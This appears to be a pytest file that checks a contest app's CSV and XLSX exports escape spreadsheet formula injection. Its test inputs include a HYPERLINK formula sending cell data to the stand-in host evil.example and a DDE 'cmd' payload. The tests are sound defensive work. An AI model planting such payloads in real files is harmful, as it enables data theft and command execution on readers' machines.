"""Formula escaping (issue 10 item 5): every CSV and XLSX that biwu writes goes through one
function, `contests.safe_cells`. Text that a spreadsheet would run (= + - @ tab CR) is
written behind an apostrophe in CSV and with Excel's quote prefix in XLSX; numbers, and text
that is a plain decimal number such as "-3.5", stay as they are.

Each export is checked with hostile names, titles and unit names: the contest results CSV
and XLSX, the campaign award list CSV and XLSX (public copy and finance's pay sheet) and
the competitor import template. A last test finds every CSV or XLSX writer in the code and
fails if one does not use the shared module, so a new export cannot skip it.
"""

from __future__ import annotations

import csv
import io
import re
from decimal import Decimal
from pathlib import Path

import msgspec
import openpyxl
import pytest

from contests.campaigns.award_list import build_award_list
from contests.campaigns.case import Case
from contests.campaigns.export import to_csv as award_csv
from contests.campaigns.export import to_xlsx as award_xlsx
from contests.campaigns.rubric import RubricScore
from contests.campaigns.submission import Proposer
from contests.importing import competitors_template_xlsx
from contests.people import Unit
from contests.results import to_csv, to_xlsx
from contests.safe_cells import csv_cell, needs_quote
from contests.usecases.campaigns.awards import public_copy
from tests.campaigns.factories import campaign_score_prizes, drive, submission
from tests.results.fixtures import load_contest, standings_of, welder_day

ROOT = Path(__file__).resolve().parents[1]
HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "+1 车间", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "\t=1+1", "\r=1+1"]


# ---------------------------------------------------------------- the one function


@pytest.mark.parametrize("text", HOSTILE)
def test_text_that_a_spreadsheet_would_run_is_quoted(text):
    assert needs_quote(text) and csv_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["-3.5", "+2", "12", "0.50", "-.5", "张三", "O'Brien", "", "a=b", 12, -3.5, Decimal("-3.50"), None])
def test_numbers_and_ordinary_text_stay_as_they_are(value):
    assert not needs_quote(value)
    assert csv_cell(value) == ("" if value is None else str(value))


# ---------------------------------------------------------------- contest results


@pytest.fixture(scope="module")
def hostile_standings():
    contest = load_contest()
    s = standings_of(contest, welder_day(contest))
    rows = list(s.rows)
    for k, text in enumerate(HOSTILE[:4]):
        rows[k] = msgspec.structs.replace(rows[k], name=text, unit=HOSTILE[(k + 1) % 4], team=HOSTILE[(k + 2) % 4])
    return msgspec.structs.replace(s, rows=tuple(rows))


def _csv(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def _assert_csv_safe(rows: list[list[str]]) -> None:
    risky = [cell for row in rows for cell in row if needs_quote(cell)]
    assert risky == [], f"unescaped formula-like cells: {risky}"


def _assert_xlsx_safe(data: bytes) -> list:
    """Every text cell that a spreadsheet would run carries the quote prefix; no cell is a formula."""
    book = openpyxl.load_workbook(io.BytesIO(data))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row if c.value is not None]
    assert all(c.data_type != "f" for c in cells)
    unsafe = [c.coordinate for c in cells if isinstance(c.value, str) and needs_quote(c.value) and not c.quotePrefix]
    assert unsafe == [], f"formula-like text without the quote prefix: {unsafe}"
    return cells


def test_contest_results_csv(hostile_standings):
    rows = _csv(to_csv(hostile_standings))
    _assert_csv_safe(rows)
    assert rows[1][2:5] == ["'" + HOSTILE[0], "'" + HOSTILE[1], "'" + HOSTILE[2]]
    assert rows[1][7] == "88.00"  # a score is a plain number


def test_contest_results_xlsx(hostile_standings):
    cells = _assert_xlsx_safe(to_xlsx([hostile_standings]))
    by_value = {c.value: c for c in cells}
    assert by_value[HOSTILE[0]].quotePrefix and by_value[HOSTILE[0]].data_type == "s"  # reads back unchanged
    scores = [c for c in cells if c.row == 2 and c.data_type == "n"]
    assert scores and not any(c.quotePrefix for c in scores)  # numbers stay numbers


# ---------------------------------------------------------------- campaign award lists


@pytest.fixture(scope="module")
def hostile_award_list():
    campaign = campaign_score_prizes()
    proposers = [
        Proposer(employee_no="-0001", name=HOSTILE[3], share_bp=5000),
        Proposer(employee_no="=2", name=HOSTILE[2], share_bp=5000),
    ]
    sub = submission("S1", campaign=campaign, title=HOSTILE[0], proposers=proposers)
    case = drive(Case(submission=sub), "verified", benefit="5000")
    scores = {"S1": RubricScore(submission="S1", score=Decimal("18.00"), units=1800, reviewers=3)}
    return build_award_list(campaign, [case], scores, [Unit(code="TL", name=HOSTILE[1], headcount=10)])


@pytest.mark.parametrize("public", [True, False], ids=["public", "pay-sheet"])
def test_campaign_award_csv(hostile_award_list, public):
    award_list = public_copy(hostile_award_list) if public else hostile_award_list
    rows = _csv(award_csv(award_list))
    _assert_csv_safe(rows)
    assert rows[1][2] == "'" + HOSTILE[0] and rows[1][4] == "'" + HOSTILE[1] and rows[1][9] == "'" + HOSTILE[3]


@pytest.mark.parametrize("public", [True, False], ids=["public", "pay-sheet"])
def test_campaign_award_xlsx(hostile_award_list, public):
    award_list = public_copy(hostile_award_list) if public else hostile_award_list
    cells = _assert_xlsx_safe(award_xlsx(award_list))
    texts = {c.value for c in cells if c.quotePrefix}
    assert {HOSTILE[0], HOSTILE[1], HOSTILE[2], HOSTILE[3]} <= texts
    if not public:
        assert "=2" in texts  # finance's employee numbers, kept as text
    money = [c.value for c in cells if c.number_format == "0.00" and c.data_type == "n"]
    assert 1500.0 in money  # the reward is a number


def test_import_template_xlsx():
    _assert_xlsx_safe(competitors_template_xlsx())


# ---------------------------------------------------------------- no writer skips the rule

_WRITER = re.compile(r"csv\.writer\(|xlsxwriter\.Workbook\(")


def test_every_csv_and_xlsx_writer_uses_the_shared_function():
    writers = [p for folder in ("contests", "api") for p in (ROOT / folder).rglob("*.py") if _WRITER.search(p.read_text("utf-8"))]
    assert writers, "no writer found: the search pattern is stale"
    skipping = [str(p.relative_to(ROOT)) for p in writers if "contests.safe_cells" not in p.read_text("utf-8")]
    assert skipping == []
